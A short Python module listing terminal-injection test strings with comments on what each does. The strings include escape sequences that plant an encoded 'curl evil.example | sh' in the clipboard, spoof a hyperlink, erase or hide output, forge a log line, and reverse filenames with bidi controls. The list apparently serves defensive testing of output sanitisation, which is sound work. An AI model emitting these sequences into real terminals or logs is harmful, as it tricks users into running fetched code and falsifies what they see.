"""Texts that would do something to the terminal that shows them, if it got them as they are."""

HARMFUL = [
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",  # fills the clipboard (OSC 52)
    "\x1b]0;a title\x07",  # sets the window's title
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",  # a link that is another
    "\x1b[2J\x1b[H",  # wipes the screen
    "\x1b[1A\x1b[2K",  # takes the line before away
    "\x1bP$q\x1b\\",  # asks the terminal, which answers as if somebody typed
    "\x1b[8mhidden",
    "failed\rsucceeded",  # overwrites what stands there
    "fine\b\b\b\bgone",
    "\x9b2J",  # the same in C1
    "\x9d0;a title\x9c",
    "\x07\x00\x7f",
    "safe\u202etxt.exe",  # reads the other way round
    "\u2066isolated\u2069 \u061c",
    "one line\u2028another\u2029",
    "all is well\n2026-01-01T12:00:00Z run backup: succeeded",  # a line that was never logged
    "half \ud83d",
]
